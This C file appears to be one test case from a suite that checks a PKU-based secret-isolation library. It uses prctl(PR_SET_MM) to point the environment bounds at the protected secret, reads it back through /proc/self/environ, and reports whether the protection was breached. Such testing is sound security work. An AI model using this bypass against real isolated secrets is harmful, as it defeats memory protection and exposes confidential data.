/* /proc/self/environ is read by the kernel past PKU: prctl(PR_SET_MM) moves
 * the environment's bounds onto the library's secret, then reads it. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/prctl.h>

int main(void)
{
    vault_open();
    /* the heap: environ is read from anonymous memory only */
    uintptr_t secret = (uintptr_t)vault_address(VAULT_HEAP)->secret;
    /* The start first: the old bounds are on the stack, above the library. */
    if (prctl(PR_SET_MM, PR_SET_MM_ENV_START, secret, 0, 0) != 0 ||
        prctl(PR_SET_MM, PR_SET_MM_ENV_END, secret + VAULT_SECRET_LEN, 0, 0) != 0) 
        blocked_errno("prctl(PR_SET_MM)");
    uint8_t copy[VAULT_SECRET_LEN];
    int fd = open("/proc/self/environ", O_RDONLY);
    if (fd < 0 || read(fd, copy, sizeof copy) != (ssize_t)sizeof copy)
        blocked("/proc/self/environ could not be read");
    if (vault_matches(VAULT_HEAP, copy))
        breached("read the library's secret through /proc/self/environ");
    blocked("what was read is not the secret");
}
